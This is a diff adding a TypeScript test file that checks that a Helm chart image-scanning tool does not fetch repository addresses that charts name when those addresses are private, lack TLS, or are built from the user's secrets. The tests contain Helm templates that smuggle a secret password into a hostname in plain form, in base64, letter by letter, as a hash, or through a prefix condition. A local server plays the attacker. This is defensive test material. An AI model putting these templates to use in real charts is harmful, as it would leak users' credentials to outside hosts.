@@ -1,0 +1,157 @@
+import { once } from 'node:events';
+import { mkdir, writeFile } from 'node:fs/promises';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { silent } from '../../../src/base/events.ts';
+import { namedHosts } from '../../../src/helm/addresses.ts';
+import type { RenderOptions } from '../../../src/helm/render.ts';
+import { type ImagesResult, images } from '../../../src/workflows/images.ts';
+import { scratchFolder } from '../../support/scratch.ts';
+import { chartYaml, HELMS, writeFiles } from '../helm/scratch.ts';
+
+/** Addresses that charts name: which are asked, and which are not. The one server stands for the attacker's. */
+describe.for(HELMS.slice(-1))('addresses that charts name, with Helm $version', (wanted) => {
+  const test = it.skipIf(wanted.path === undefined);
+  let server: Server;
+  let port: number;
+  const asked: string[] = [];
+
+  beforeAll(async () => {
+    server = createServer((request, response) => {
+      asked.push(request.url ?? '');
+      response.writeHead(404).end();
+    }).listen(0, '127.0.0.1');
+    await once(server, 'listening');
+    port = (server.address() as AddressInfo).port;
+  });
+  afterAll(() => server.close());
+
+  function application(name: string, repoURL: string): string {
+    return JSON.stringify({
+      apiVersion: 'argoproj.io/v1alpha1',
+      kind: 'Application',
+      metadata: { name },
+      spec: { source: { repoURL, chart: 'inner', targetRevision: '1.0.0' } },
+    });
+  }
+
+  /** Searches a chart with these manifests. @param named hosts that the user has named */
+  async function search(
+    templates: Record<string, string>,
+    options: RenderOptions & { secrets?: string } = {},
+    named: string[] = [],
+  ): Promise<ImagesResult> {
+    asked.splice(0);
+    const cwd = scratchFolder();
+    await mkdir(join(cwd, 'tmp'));
+    await writeFiles(join(cwd, 'outer'), {
+      'Chart.yaml': chartYaml('outer'),
+      'values.yaml': 'name: charts\nmode: plain\n',
+      'templates/pod.yaml': 'kind: Pod\nspec: {containers: [{image: "r.example/outer:1"}]}\n',
+      ...templates,
+    });
+    const { secrets, ...others } = options;
+    if (secrets !== undefined) await writeFile(join(cwd, 'secrets.yaml'), secrets);
+    const values = secrets === undefined ? {} : { values: [join(cwd, 'secrets.yaml')] };
+    const context = {
+      // A proxy that is not there stands for the internet.
+      env: {
+        PATH: process.env.PATH,
+        HELM_BIN: wanted.path,
+        TMPDIR: join(cwd, 'tmp'),
+        HOME: cwd,
+        HTTPS_PROXY: `http://127.0.0.1:${port}`,
+      },
+      cwd,
+      emit: silent,
+    };
+    return images(context, {
+      charts: [
+        { request: { chart: join(cwd, 'outer') }, profiles: [{ name: 'default', options: { ...others, ...values } }] },
+      ],
+      add: [],
+      chartSources: { mirrors: [], plainHttp: [], hosts: namedHosts(named) },
+    });
+  }
+
+  const codes = ({ failures }: ImagesResult): string[] => failures.map(({ code }) => code);
+
+  test('are not asked without TLS, nor where they are private', async () => {
+    for (const url of [`http://127.0.0.1:${port}`, `https://127.0.0.1:${port}`, `oci://127.0.0.1:${port}/charts`]) {
+      const result = await search({ 'templates/a.yaml': application('a', url) });
+      expect(codes(result), url).toEqual(['forbidden']);
+      expect(result.failures[0]?.hint).toContain(`--allow-chart-host 127.0.0.1:${port}`);
+    }
+    expect(asked).toEqual([]);
+  });
+
+  test('are asked when the user has named the host', async () => {
+    const result = await search({ 'templates/a.yaml': application('a', `http://127.0.0.1:${port}/x`) }, {}, [
+      `127.0.0.1:${port}`,
+    ]);
+    expect(codes(result)).toEqual(['chart-not-found']);
+    expect(asked).toEqual(['/x/index.yaml']);
+    expect(result.askedHosts).toBeUndefined();
+  });
+
+  test('are listed when they are public', async () => {
+    const result = await search({ 'templates/a.yaml': application('a', 'https://charts.invalid/x') });
+    expect(result.askedHosts).toEqual([{ host: 'charts.invalid:443', charts: ['inner'] }]);
+  });
+
+  test.each<[string, string]>([
+    ['as it is', '{{ .Values.password }}'],
+    ['in base64', '{{ .Values.password | b64enc | lower | trimSuffix "=" | trimSuffix "=" }}'],
+    [
+      'letter by letter',
+      '{{ range $i, $x := (splitList "" .Values.password) }}{{ if eq $x "s" }}y{{ else }}n{{ end }}{{ end }}',
+    ],
+    ['as a hash', '{{ .Values.password | sha256sum | trunc 20 }}'],
+  ])('are not asked when a secret of the user stands there, %s', async (_, built) => {
+    const url = `https://x-${built}.charts.invalid/x`;
+    const result = await search(
+      { 'templates/a.yaml': application('a', 'ADDRESS').replace('ADDRESS', () => url) },
+      {
+        secrets: 'password: swordfish9\n',
+      },
+    );
+    expect(codes(result)).toEqual(['forbidden']);
+    expect(result.askedHosts).toBeUndefined();
+    expect(asked).toEqual([]);
+  });
+
+  test('are not asked when the secret decides whether they are there, or the chart wants just that one', async () => {
+    const guarded = (url: string): string =>
+      `{{ if hasPrefix "sw" .Values.password }}\n${application('a', url)}\n{{ end }}\n`;
+    const one = await search(
+      { 'templates/a.yaml': guarded('https://starts-with-sw.invalid') },
+      {
+        secrets: 'password: swordfish9\n',
+      },
+    );
+    expect(codes(one)).toEqual(['forbidden']);
+    const insisting = `{{ if and .Values.password (not (hasPrefix "AKIA" .Values.password)) }}{{ fail "no key" }}{{ end }}\n`;
+    const url = 'https://x-{{ .Values.password | lower }}.invalid';
+    const two = await search(
+      { 'templates/a.yaml': insisting + application('a', url) },
+      { secrets: 'password: AKIA77777\n' },
+    );
+    expect(codes(two)).toEqual(['forbidden']);
+    expect(asked).toEqual([]);
+  });
+
+  test('are asked when the values only switch them on, or name them', async () => {
+    const switched = `{{ if .Values.enabled }}\n${application('a', 'https://charts.invalid/x')}\n{{ end }}\n`;
+    const one = await search({ 'templates/a.yaml': switched }, { secrets: 'enabled: true\npassword: swordfish9\n' });
+    expect(one.askedHosts).toEqual([{ host: 'charts.invalid:443', charts: ['inner'] }]);
+    const chosen = `{{ if eq .Values.mode "full" }}\n${application('a', 'https://charts.invalid/x')}\n{{ end }}\n`;
+    const two = await search({ 'templates/a.yaml': chosen }, { set: ['mode=full'] });
+    expect(two.askedHosts).toEqual([{ host: 'charts.invalid:443', charts: ['inner'] }]);
+    const named = application('a', '{{ .Values.repository }}');
+    const three = await search({ 'templates/a.yaml': named }, { set: [`repository=http://127.0.0.1:${port}/own`] });
+    expect(asked).toEqual(['/own/index.yaml']);
+    expect(codes(three)).toEqual(['chart-not-found']);
+  });
+});
